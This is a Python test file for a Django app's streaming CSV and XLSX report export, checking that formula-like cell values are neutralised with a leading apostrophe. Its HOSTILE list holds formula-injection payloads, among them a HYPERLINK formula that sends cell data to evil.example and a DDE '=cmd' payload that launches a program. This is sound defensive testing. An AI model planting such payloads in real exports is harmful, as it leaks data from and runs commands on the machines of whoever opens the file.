"""The streaming CSV/XLSX writer, read back with the csv module and openpyxl."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from training.dashboards.reports.spreadsheets import csv_stream, neutralise, xlsx_stream

# Names an attacker could give themselves in a roster, each one a formula in some spreadsheet.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Amira Haddad", "O'Brien", "Zoë 1+1", "", "a=b"]


# Characters that can come before a formula and that a program might skip, trim or fold: every
# C0 control, DEL and C1 controls, whitespace (space, no-break, ideographic), invisible format
# characters; and look-alikes of the four formula characters.
LEADING = [chr(code) for code in [*range(0x00, 0x20), 0x7F, 0x85, 0x9F]] + [
    " ", "  ", "\n", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200e", "\u2060", "\ufeff", "\x01 \x02",
]
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺"]
CORPUS = [f"{lead}{trigger}CTRLPROBE(1)" for lead in ["", *LEADING] for trigger in TRIGGERS]


def read_csv(chunks) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(chunks):
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(chunks))).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_neutralised_in_csv_and_xlsx(value):
    assert neutralise(value) == "'" + value
    assert read_csv(csv_stream(["Name"], [[value]]))[1] == ["'" + value]
    sheet, rows = read_xlsx(xlsx_stream(["Name"], [[value]]))
    assert rows[1] == ["'" + value]
    assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value
    assert read_csv(csv_stream(["Name"], [[value]]))[1] == [value]


def xlsx_cells_as_written(chunks) -> list[str]:
    """The sheet's text cells straight from its XML, as a spreadsheet program would read them
    (independent of openpyxl's reading)."""
    with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as archive:
        root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    namespace = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    assert not root.findall(".//m:f", namespace)  # no formula element anywhere
    return ["".join(cell.itertext()) for cell in root.iterfind(".//m:c", namespace)]


def test_formula_like_cells_start_with_an_apostrophe_in_every_format_after_every_transformation():
    """The corpus x CSV, XLSX: what the program reads starts with an apostrophe. The control
    characters XML cannot hold are dropped first (in both formats), so "\x01=X" cannot become
    "=X" after the check."""
    rows = [[value] for value in CORPUS]
    csv_cells = [row[0] for row in read_csv(csv_stream(["Name"], rows))[1:]]
    xlsx_cells = xlsx_cells_as_written(xlsx_stream(["Name"], rows))[1:]
    _, openpyxl_rows = read_xlsx(xlsx_stream(["Name"], rows))
    assert len(csv_cells) == len(xlsx_cells) == len(CORPUS) == len(openpyxl_rows) - 1
    for value, csv_cell, xlsx_cell, (openpyxl_cell,) in zip(CORPUS, csv_cells, xlsx_cells, openpyxl_rows[1:]):
        assert csv_cell.startswith("'"), repr(value)
        assert xlsx_cell.startswith("'"), repr(value)
        assert openpyxl_cell.startswith("'"), repr(value)
        assert "CTRLPROBE(1)" in csv_cell and csv_cell == xlsx_cell == neutralise(value)
    assert neutralise("\x01=CTRLPROBE(1)") == "'=CTRLPROBE(1)"
    assert neutralise("\u3000＝CTRLPROBE(1)") == "'\u3000＝CTRLPROBE(1)"


@pytest.mark.parametrize("value", ["Amira", "a=b", " Amira", "\x01Amira", "1-2", "Zoë", "€5", "(555) 123", "'quoted"])
def test_text_without_a_formula_start_is_not_given_an_apostrophe(value):
    assert not neutralise(value).startswith("'") or value.startswith("'")
    assert neutralise(value) == re.sub("[\x00-\x08]", "", value)


def test_numbers_stay_numbers_and_objects_are_neutralised_as_text():
    class Named:
        def __str__(self):
            return "=HYPERLINK(1)"

    row = [-5, Decimal("-87.50"), -0.5, Named()]
    assert read_csv(csv_stream(list("ABCD"), [row]))[1] == ["-5", "-87.50", "-0.5", "'=HYPERLINK(1)"]
    sheet, rows = read_xlsx(xlsx_stream(list("ABCD"), [row]))
    assert rows[1] == [-5, -87.5, -0.5, "'=HYPERLINK(1)"]
    assert [sheet[ref].data_type for ref in ("A2", "B2", "C2", "D2")] == ["n", "n", "n", "s"]


def test_numbers_dates_and_booleans_keep_their_types_in_xlsx():
    moment = timezone.make_aware(datetime(2026, 3, 4, 15, 30))
    row = [-5, Decimal("87.50"), date(2026, 1, 31), moment, True, None, "x"]
    sheet, rows = read_xlsx(xlsx_stream(list("ABCDEFG"), [row], title="Odd: name/with [chars]"))
    assert rows[1] == [-5, 87.5, datetime(2026, 1, 31), timezone.localtime(moment).replace(tzinfo=None), True, None, "x"]
    assert sheet.title == "Odd  name with  chars"
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"


def test_csv_writes_readable_text_for_each_type():
    moment = timezone.make_aware(datetime(2026, 3, 4, 15, 30))
    rows = read_csv(csv_stream(["a", "b", "c", "d", "e"], [[-5, Decimal("87.50"), date(2026, 1, 31), moment, False]]))
    assert rows == [["a", "b", "c", "d", "e"], ["-5", "87.50", "2026-01-31", timezone.localtime(moment).strftime("%Y-%m-%d %H:%M"), "No"]]


def test_characters_xml_cannot_hold_are_dropped_not_fatal():
    _, rows = read_xlsx(xlsx_stream(["Name"], [["Bell\x07 and null\x00"]]))
    assert rows[1] == ["Bell and null"]


def test_rows_arrive_in_chunks_before_the_end():
    """Streaming: the writer hands over bytes while rows are still being produced."""
    produced = []

    def rows():
        for number in range(3000):
            produced.append(number)
            yield [f"row {number}", number]

    for stream in (csv_stream(["a", "b"], rows()), xlsx_stream(["a", "b"], rows())):
        produced.clear()
        first_chunks = [next(stream), next(stream)]
        assert sum(map(len, first_chunks)) > 0
        assert len(produced) < 3000
